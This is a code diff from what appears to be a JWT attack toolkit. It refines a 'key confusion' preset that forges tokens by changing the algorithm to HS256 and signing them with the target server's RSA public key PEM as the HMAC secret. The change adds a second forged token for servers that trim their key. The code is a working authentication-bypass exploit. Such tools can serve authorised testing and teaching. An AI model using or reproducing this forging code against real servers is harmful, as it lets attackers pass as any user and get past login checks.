@@ -19,11 +19,32 @@ export const keyConfusion: AttackPreset = {
       throw new Error(
         `Key confusion targets servers that hold an RSA public key; this key is ${describeJwk(reading.jwk)}.`,
       );
-    // The vulnerable server reads its PEM file's bytes as the HMAC secret, trailing newline included.
+    // The vulnerable server reads its PEM file's bytes as the HMAC secret. A .pem file, as
+    // OpenSSL and Node write it, ends with one "\n" after the END line, and that byte is part of
+    // the secret; a server that trims the key (or reads it from an environment variable) has none.
     const { publicPem } = await jwkToPem(reading.jwk);
+    const trimmedPem = publicPem.trimEnd();
+    const filePem = `${trimmedPem}\n`;
     const forgedHeader = { ...header, alg: 'HS256' };
     const input = signingInput(forgedHeader, payload);
-    const signature = await hmacSha256(new TextEncoder().encode(publicPem), input);
-    return { token: `${input}.${signature}`, header: forgedHeader, payload, attackerKey: publicPem };
+    const encoder = new TextEncoder();
+    const [signature, trimmedSignature] = await Promise.all([
+      hmacSha256(encoder.encode(filePem), input),
+      hmacSha256(encoder.encode(trimmedPem), input),
+    ]);
+    return {
+      token: `${input}.${signature}`,
+      header: forgedHeader,
+      payload,
+      attackerKey: filePem,
+      note: 'HMAC key: the public key PEM exactly as a .pem file holds it, final newline included.',
+      variants: [
+        {
+          when: 'If the server trims its key or reads it from an environment variable (the PEM without its final newline)',
+          token: `${input}.${trimmedSignature}`,
+          attackerKey: trimmedPem,
+        },
+      ],
+    };
   },
 };
